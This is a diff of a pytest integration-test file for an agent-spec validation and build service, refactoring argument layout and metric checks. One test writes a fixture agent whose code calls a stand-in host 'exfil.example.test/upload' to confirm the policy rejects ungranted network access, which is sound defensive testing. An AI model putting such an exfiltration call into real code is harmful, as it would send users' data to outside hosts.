@@ -20,7 +20,7 @@ def _metrics_when(url: str, wanted: tuple[str, ...], timeout: float = 10.0) -> s
     deadline = time.monotonic() + timeout
     while True:
         text = urllib.request.urlopen(url + "/metrics", timeout=5).read().decode()
-        if all(w in text for w in wanted) or time.monotonic() > deadline:
+        if all(f"{w} " in text for w in wanted) or time.monotonic() > deadline:
             return text
         time.sleep(0.05)
 
@@ -33,8 +33,16 @@ def env(stack_env: dict[str, str], tmp_path: Path) -> dict[str, str]:
 def test_valid_spec_with_code_is_validated_with_its_plan(services, env, dsec_cli) -> None:
     services.start("policy")
     example = ROOT / "examples" / "websearch-agent"
-    result = dsec_cli("submit", str(example / "dsec.yaml"), "--code", str(example),
-                      "--wait", "validated", "--json", env=env)
+    result = dsec_cli(
+        "submit",
+        str(example / "dsec.yaml"),
+        "--code",
+        str(example),
+        "--wait",
+        "validated",
+        "--json",
+        env=env,
+    )
     outcome = result.last_json()
     assert result.exit_code == 0, result.output
     assert outcome["state"] == "validated"
@@ -47,12 +55,14 @@ def test_valid_spec_with_code_is_validated_with_its_plan(services, env, dsec_cli
     assert [s["env_var"] for s in plan["secrets"]] == ["WEB_SEARCH_KEY"]
 
     wanted = (
-        'dsec_events_consumed_total{service="policy",type="spec.submitted"} 1.0',
-        'dsec_events_published_total{service="policy",type="spec.validated"} 1.0',
-        'dsec_handler_seconds_count{service="policy",type="spec.submitted"} 1.0',
+        'dsec_events_consumed_total{service="policy",type="spec.submitted"}',
+        'dsec_events_published_total{service="policy",type="spec.validated"}',
+        'dsec_handler_seconds_count{service="policy",type="spec.submitted"}',
     )
     text = _metrics_when(services.url("policy"), wanted)
-    assert all(w in text for w in wanted), text
+    samples = dict(line.rsplit(" ", 1) for line in text.splitlines() if line.startswith("dsec_"))
+    for name in wanted:
+        assert float(samples.get(name, 0)) >= 1, f"{name} not counted:\n{text}"
     health = urllib.request.urlopen(services.url("policy") + "/healthz", timeout=5).read()
     assert b'"status": "ok"' in health
 
@@ -76,11 +86,13 @@ def test_code_that_needs_an_ungranted_host_is_rejected(services, env, dsec_cli, 
     code = tmp_path / "agent"
     code.mkdir()
     (code / "agent.py").write_text(
-        "import requests\nrequests.get('https://exfil.example.test/upload')\n")
+        "import requests\nrequests.get('https://exfil.example.test/upload')\n"
+    )
     spec = tmp_path / "dsec.yaml"
     spec.write_text("version: '1.2'\nname: sneaky\nbase: python:3.11\n")
-    result = dsec_cli("submit", str(spec), "--code", str(code), "--wait", "validated",
-                      "--json", env=env)
+    result = dsec_cli(
+        "submit", str(spec), "--code", str(code), "--wait", "validated", "--json", env=env
+    )
     assert result.exit_code == 1
     messages = " ".join(e["message"] for e in result.last_json()["events"][-1]["payload"]["errors"])
     assert "exfil.example.test" in messages
@@ -101,8 +113,17 @@ def test_audit_trail_verifies_after_the_services_ran(services, env, dsec_cli) ->
 def test_valid_spec_reaches_env_built_and_identical_lock_is_reused(services, env, dsec_cli):
     services.start("policy", "builder")
     example = ROOT / "examples" / "websearch-agent"
-    args = ("submit", str(example / "dsec.yaml"), "--code", str(example), "--wait", "built",
-            "--stall", "120", "--json")
+    args = (
+        "submit",
+        str(example / "dsec.yaml"),
+        "--code",
+        str(example),
+        "--wait",
+        "built",
+        "--stall",
+        "120",
+        "--json",
+    )
     first = dsec_cli(*args, env=env)
     assert first.exit_code == 0, first.output
     built = first.last_json()["events"][-1]["payload"]
@@ -117,8 +138,16 @@ def test_valid_spec_reaches_env_built_and_identical_lock_is_reused(services, env
 @pytest.mark.slow
 def test_brief_spec_is_blocked_with_an_alternative(services, env, dsec_cli) -> None:
     services.start("policy", "builder")
-    result = dsec_cli("submit", str(ROOT / "examples" / "brief" / "dsec.yaml"), "--wait",
-                      "built", "--stall", "120", "--json", env=env)
+    result = dsec_cli(
+        "submit",
+        str(ROOT / "examples" / "brief" / "dsec.yaml"),
+        "--wait",
+        "built",
+        "--stall",
+        "120",
+        "--json",
+        env=env,
+    )
     outcome = result.last_json()
     assert result.exit_code == 1, result.output
     assert outcome["state"] == "conflict"
